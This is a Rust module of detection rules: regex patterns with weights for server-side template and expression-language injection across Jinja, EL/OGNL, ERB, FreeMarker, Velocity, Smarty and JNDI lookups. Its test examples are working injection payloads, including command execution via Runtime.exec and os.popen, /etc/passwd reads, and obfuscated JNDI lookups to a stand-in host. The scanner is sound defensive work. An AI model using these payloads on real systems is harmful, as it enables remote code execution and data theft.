//! Expressions that a template engine would run on a server.

use super::rule::Weight::{Firm, Hostile, Plain};
use super::rule::{Rule, rule};

pub(super) const RULES: &[Rule] = &[
    rule("code.template.jinja", "template expression", 88, Hostile)
        .at(
            &["{{", "{%"],
            r"^\{[{%].{0,200}?(?:__(?:class|globals|mro|subclasses|init|builtins|base|bases|import|getitem)__|\|\s*attr\s*\(|\brequest\.(?:application|__)|\bcycler\.|\bjoiner\.|\blipsum\.|get_flashed_messages\.|\.constructor\b|_self\.env|getruntime|\bpopen\s*\(|\bsystem\s*\(|(?:filter|map|sort|reduce)\s*\(\s*[\x22'](?:system|exec|passthru|popen)|\bphpinfo\s*\(|\bshell_exec\s*\(|\bos\.(?:popen|system)|class\.forname|\bfreemarker\.|\x5cx5f\x5cx5f)",
        )
        .examples(
            &["{{7*7}}{{config.__class__.__init__.__globals__}}", "{{['id']|filter('system')}}", "{{constructor.constructor('alert(1)')()}}", "{{_self.env.registerUndefinedFilterCallback('exec')}}"],
            &["{{ user.name }}", "{{#if a}} x {{else}} y {{/if}}", "{% for x in items %}", "${{ secrets.TOKEN }}"],
        ),
    rule("code.template.jinja", "template arithmetic", 74, Hostile)
        .at(&["{{"], r"^\{\{-?\s*[\x22']?\d{1,9}[\x22']?\s*[*+/-]\s*[\x22']?\d{1,9}[\x22']?\s*-?\}\}")
        .examples(&["{{7*7}}", "{{ 7 * '7' }}", "Hello {{1337*1337}}"], &["{{ price * 2 }}", "{{ 7 }}"]),
    rule("code.template.jinja", "template secrets", 60, Plain)
        .at(&["{{"], r"^\{\{-?\s*(?:config(?:\.items\(\))?|self|settings\.secret_key|config\[?.{0,3}secret_key.{0,3}|request\.environ|app\.request\.server\S{0,40}|dump\(app\))\s*-?\}\}")
        .examples(&["{{config}}", "{{ config.items() }}", "{{ settings.SECRET_KEY }}"], &["{{ config.title }}", "{{ self.title }}"]),
    rule("code.template.jinja", "template import", 76, Hostile)
        .at(&["{%"], r"^\{%-?\s*import\s+(?:os|subprocess|sys|socket)\b")
        .examples(&["{% import os %}{{ os.popen('id').read() }}"], &["{% import 'forms.html' as forms %}"]),
    rule("code.template.handlebars", "template expression", 86, Hostile)
        .at(&["{{#with"], r"^\{\{#with\s.{0,60}?as\s*\|.{0,260}?(?:constructor|conslist|lookup\s+string)")
        .examples(&["{{#with \"s\" as |string|}}{{#with (lookup string.sub \"constructor\")}}"], &["{{#with person as |p|}}{{p.name}}{{/with}}"]),
    rule("code.template.expression", "expression language", 88, Hostile)
        .at(
            &["${", "#{", "*{", "@{", "%{"],
            r"^[$#*@%]\{[^\n]{0,160}?(?:\bt\s*\(\s*java\.|getruntime|\.getclass\s*\(|class\.forname|\.forname\s*\(|processbuilder|scriptengine|pagecontext\.|@java\.|java\.lang\.|\bos\.(?:system|popen)|\b__import__|module\.cache|#_memberaccess|ognl\.|#context|child_process|process\.mainmodule|self\.module|#request\.|facescontext|file\.(?:read|open)\s*\(?\s*[\x22']/etc)",
        )
        .examples(
            &["${T(java.lang.Runtime).getRuntime().exec('id')}", "%{(#_memberAccess['x']=true)}", "#{session.getClass().forName('x')}", "${self.module.cache.util.os.system('id')}"],
            &["${HOME}", "${user.name}", "#{name} is here", "@{profile}", "${java.home}", "printf '%{s}'"],
        ),
    rule("code.template.expression", "expression arithmetic", 70, Hostile)
        .at(&["${", "#{", "*{"], r"^[$#*]\{\s*\d{1,9}\s*[*+/-]\s*\d{1,9}\s*\}")
        .examples(&["${7*7}", "#{7*7}"], &["${COUNT}", "a{3-5}", "${a*b}"]),
    rule("code.ruby.interpolation", "interpolation", 84, Hostile)
        .at(&["#{"], r"^#\{\s*(?:`[^`\n]{1,100}`|%x[\[({]|(?:system|exec|eval|io\.popen|kernel\.\w+|file\.read|open)\s*[(\s]\s*[\x22'|]|`)")
        .examples(&["#{`id`}", "#{system('id')}", "#{%x(id)}", "#{File.read('/etc/passwd')}"], &["#{name}", "\"#{count} rows\""]),
    rule("code.template.jndi", "jndi lookup", 90, Firm)
        .at(&["jndi:"], r"^jndi:\s*(?:ldaps?|rmi|dns|iiop|corba|nds|nis|http)\b\s*:|^jndi:\$\{")
        .examples(&["${jndi:ldap://x.example/a}", "${jndi:rmi://x.example}"], &["the jndi: prefix", "JNDI: an interface"]),
    rule("code.template.jndi", "jndi lookup", 88, Firm)
        .at(&["${lower:", "${upper:", "${::-", "${env:", "${sys:", "${date:", "${${"], r"^\$\{(?:\$\{)?(?:[a-z]{0,8}:){1,3}-?[^}\n]{0,40}(?:\$\{|\})[^\n]{0,80}?(?:ndi\b|:\s*(?:ldap|rmi|dns|[ldap${}:-]{6,})|\$\{(?:lower|upper|::-|env:[^}\n]{0,20}:-))")
        .examples(&["${${lower:j}ndi:${lower:l}dap://x.example/a}", "${${::-j}${::-n}${::-d}${::-i}:ldap://x.example}"], &["${env:PATH}", "${env:NAME:-x}"]),
    rule("code.template.erb", "erb tag", 86, Hostile)
        .at(
            &["<%"],
            r"^<%[=-]?[^%\n]{0,160}?(?:`[^`\n]{1,100}`|\bsystem\s*[(\x22' ]|\bexec\s*\(|%x[({\[]|io\.popen|getruntime|processbuilder|file\.(?:read|delete|open)\s*\(?\s*[\x22'](?:/|\.\.)|kernel\.\w|\beval\s*\(|\beval\s+request|wscript\.shell|request\.getparameter|process\.start|\bimport\s+os\b|dir\.entries|dir\.glob|server\.createobject)",
        )
        .examples(&["<%= Runtime.getRuntime().exec(\"id\") %>", "<%= system('id') %>", "<% eval request('cmd') %>", "<%= `id` %>"], &["<%= user.name %>", "<% if admin %>", "<%= link_to 'Home', root_path %>"]),
    rule("code.template.erb", "erb arithmetic", 72, Hostile)
        .at(&["<%="], r"^<%=\s*\d{1,9}\s*[*+/-]\s*\d{1,9}\s*%>")
        .examples(&["<%= 7*7 %>"], &["<%= total %>"]),
    rule("code.template.freemarker", "freemarker", 88, Hostile)
        .at(&["freemarker.template.utility", "<#assign", "?api.class", "[#assign"], r"^(?:freemarker\.template\.utility\.(?:execute|objectconstructor|jythonruntime)|[<\[]#assign\s[^\n]{0,120}?\?new\s*\(|\?api\.class)")
        .examples(&["<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"], &["<#assign name=\"x\">"]),
    rule("code.template.velocity", "velocity", 86, Hostile)
        .at(&["#set", "$class."], r"^(?:#set\s*\([^\n]{0,200}?(?:forname|getruntime|\.class\b|\bexec\s*\()|\$class\.(?:inspect|forname))")
        .examples(&["#set($e=\"\")$e.getClass().forName(\"x\") #set($r=$x.class.forName('java.lang.Runtime'))"], &["#set($name = 'x')"]),
    rule("code.template.smarty", "smarty", 78, Hostile)
        .at(&["{php}", "{system(", "{exec(", "{passthru(", "{shell_exec(", "{if system", "{if phpinfo", "{fetch file="], r"^\{(?:php\}|(?:if\s+)?(?:system|exec|passthru|shell_exec|phpinfo)\s*\(|fetch\s+file=[\x22']?/)")
        .examples(&["{php}echo `id`;{/php}", "{system('id')}"], &["{if $x}", "{$name}"]),
];
